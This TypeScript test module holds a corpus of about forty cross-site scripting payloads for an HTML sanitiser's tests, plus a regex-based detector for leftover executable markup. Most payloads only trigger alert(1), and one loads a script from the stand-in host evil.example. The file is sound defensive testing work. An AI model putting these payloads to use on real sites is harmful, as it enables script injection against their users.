/**
 * Payloads that try to run script through staff HTML, for the sanitiser's tests (unit and API). Each must
 * come out without anything that could execute.
 */
export const XSS_CORPUS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<img src="/images/content/a.png" onerror="alert(1)">',
  '<IMG SRC="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="javascript&#58;alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<div style="width: expression(alert(1))">style</div>',
  '<div style="background:url(javascript:alert(1))">style</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<p onclick="alert(1)" onmouseover="alert(1)">handlers</p>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '"><img src=x onerror=alert(1)>',
  '<<script>alert(1);//<</script>',
  '<a href="https://example.com" target="_blank">new tab</a>',
  '<table><tr><td onmouseover="alert(1)">cell</td></tr></table>',
];

/**
 * Whether some markup still holds a way to run script: a script-capable element, an event handler
 * attribute, a javascript:/vbscript:/data: URL, or a style attribute.
 */
export function looksExecutable(html: string): string | null {
  // Read it as a browser would: character references decoded; for URLs, also without the tabs, newlines
  // and other control characters a URL parser skips.
  const decoded = html
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;|&newline;/gi, '\t');
  const compact = Array.from(decoded)
    .filter((c) => c.charCodeAt(0) >= 0x20)
    .join('');
  const checks: [RegExp, string, string][] = [
    [
      /<\s*(script|iframe|frame|object|embed|svg|math|style|link|meta|base|form|input|button|body|details|video|source)\b/i,
      'element',
      decoded,
    ],
    [/\son[a-z]+\s*=/i, 'event handler', decoded],
    [/(javascript|vbscript)\s*:/i, 'script URL', compact],
    [/(href|src)\s*=\s*["']?\s*data:/i, 'data URL', compact],
    [/\sstyle\s*=/i, 'style attribute', decoded],
    [/\ssrcdoc\s*=/i, 'srcdoc', decoded],
  ];
  for (const [pattern, what, text] of checks) if (pattern.test(text)) return what;
  return null;
}
